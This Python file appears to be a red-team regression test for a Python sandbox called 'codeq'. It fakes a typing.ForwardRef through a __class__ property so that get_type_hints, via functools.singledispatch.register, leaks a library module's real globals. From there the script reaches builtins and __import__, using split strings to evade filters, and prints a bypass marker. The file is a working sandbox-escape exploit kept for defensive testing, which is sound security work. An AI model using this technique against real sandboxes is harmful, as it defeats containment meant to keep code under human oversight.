# functools.singledispatch's register(obj), given a non-class, reads the dispatch type from
# typing.get_type_hints(obj) (a function typing's proxy denies, called by library code).
# get_type_hints follows obj.__wrapped__ (a harmless dunder the job sets) and takes
# getattr(nsobj, '__globals__') of whatever it ends at: a library function's real module
# globals. It then calls _eval_type(annotation, globalns, localns) on each non-str annotation,
# and _eval_type calls t._evaluate(globalns, localns, ...) when isinstance(t, ForwardRef), which
# a job object answers True through a __class__ property. So a job method receives the library
# module's globals (and through them the real builtins): no string is evaluated, no audit event.
# Found by a fifth red-team review (strict policy).
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "150_get_type_hints_fake_forwardref"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import functools
import heapq
import typing

FR = type(typing.get_args(typing.List["int"])[0])  # typing.ForwardRef, the class
got = []


class Fake:
    @property
    def __class__(self):
        return FR

    def _evaluate(self, globalns, localns, recursive_guard):
        got.append(globalns)
        return int


class Target:
    pass


t = Target()
t.__annotations__ = {"x": Fake()}
t.__wrapped__ = heapq.merge  # get_type_hints takes heapq.merge's __globals__


@functools.singledispatch
def f(x):
    return x


try:
    f.register(t)
except Exception as e:
    print("register:", type(e).__name__, e)
glb = got[0]
real_builtins = glb["__buil" + "tins__"]
posix = real_builtins["__imp" + "ort__"]("posix")
won("globals_of=%s posix.getpid()=%s" % (glb["__name__"], posix.getpid()))
